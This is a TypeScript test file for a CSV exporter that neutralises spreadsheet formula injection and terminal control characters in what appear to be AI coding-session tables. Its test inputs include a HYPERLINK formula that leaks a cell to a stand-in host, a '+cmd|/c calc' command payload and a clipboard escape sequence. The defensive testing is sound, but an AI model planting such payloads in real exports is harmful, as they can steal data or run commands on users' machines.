import { describe, expect, it } from 'vitest';
import { COMPACTION_COLUMNS, csvField, csvHeader, csvLine, SESSION_COLUMNS, type Column } from './tables';

interface Row {
  name: string | null;
  n: number | null;
  x: number | null;
  ok: boolean;
}

const COLUMNS: readonly Column<Row>[] = [
  { name: 'name', type: 'STRING', value: (r) => r.name },
  { name: 'n', type: 'INT64', value: (r) => r.n },
  { name: 'x', type: 'DOUBLE', value: (r) => r.x },
  { name: 'ok', type: 'BOOLEAN', value: (r) => r.ok },
];

const line = (name: string | null, n: number | null = 1, x: number | null = 0.5, ok = true) =>
  csvLine(COLUMNS, { name, n, x, ok });

describe('the archive tables as CSV', () => {
  it('writes a plain row as it is, and an empty cell for null', () => {
    expect(csvHeader(COLUMNS)).toBe('name,n,x,ok\n');
    expect(line('/home/lee/code/linkcheck')).toBe('/home/lee/code/linkcheck,1,0.5,true\n');
    expect(line(null, null, null, false)).toBe(',,,false\n');
  });

  it('puts a quote before a text cell a spreadsheet would run as a formula', () => {
    expect(line('=HYPERLINK("http://x.test/?"&A1,"open")')).toBe(
      `"'=HYPERLINK(""http://x.test/?""&A1,""open"")",1,0.5,true\n`,
    );
    expect(line('+cmd|/c calc')).toBe("'+cmd|/c calc,1,0.5,true\n");
    expect(line('-2+3')).toBe("'-2+3,1,0.5,true\n");
    expect(line('@SUM(A1:A9)')).toBe("'@SUM(A1:A9),1,0.5,true\n");
    expect(line('\t=1')).toBe("'\t=1,1,0.5,true\n");
    expect(line('\r=1')).toBe(`"'\r=1",1,0.5,true\n`);
    // Only at the start: a formula character inside a name is harmless.
    expect(line('gpt-5=fast')).toBe('gpt-5=fast,1,0.5,true\n');
  });

  it('keeps negative numbers as numbers', () => {
    expect(line('s', -3, -0.25)).toBe('s,-3,-0.25,true\n');
    expect(csvField(-1.5)).toBe('-1.5');
    expect(csvField('-1.5')).toBe("'-1.5");
  });

  it('writes control characters from a session as \\u escapes, and quotes line breaks', () => {
    expect(line('red\u001b[31mtext\u0007')).toBe('red\\u001b[31mtext\\u0007,1,0.5,true\n');
    expect(line('\u001b]52;c;ZXZpbA==\u0007')).toBe('\\u001b]52;c;ZXZpbA==\\u0007,1,0.5,true\n');
    expect(line('del\u007f c1\u009b bidi\u202e')).toBe('del\\u007f c1\\u009b bidi\\u202e,1,0.5,true\n');
    expect(line('two\nlines.jsonl')).toBe('"two\nlines.jsonl",1,0.5,true\n');
    expect(line('cr\rhere')).toBe('"cr\rhere",1,0.5,true\n');
    expect(line('a,b "c"')).toBe('"a,b ""c""",1,0.5,true\n');
  });
});

describe('the two tables’ ledger columns', () => {
  const names = (columns: readonly Column<never>[]) => columns.map((c) => `${c.name}:${c.type}`);
  const SURVIVAL = [
    'survival:DOUBLE',
    'rereads:INT64',
    'loops:INT64',
    'lostPaths:INT64',
    'pathSurvival:DOUBLE',
    'commandSurvival:DOUBLE',
    'instructionSurvival:DOUBLE',
  ];
  const BILL = [
    'billFreshStart:INT64',
    'billFilesReRead:INT64',
    'billCommandsReRun:INT64',
    'billRegatherTokens:INT64',
    'billRegatherCostUsd:DOUBLE',
    'billFactsLost:INT64',
  ];

  it('end each table the same way, but for the bill’s first columns', () => {
    expect(names(SESSION_COLUMNS).slice(-15)).toEqual([
      ...SURVIVAL,
      'billActionsToFirstEditMax:INT64',
      ...BILL,
      'error:STRING',
    ]);
    expect(names(COMPACTION_COLUMNS).slice(-15)).toEqual([
      ...SURVIVAL,
      'billActionsToFirstEdit:INT64',
      'billPaceBefore:DOUBLE',
      ...BILL,
    ]);
  });
});
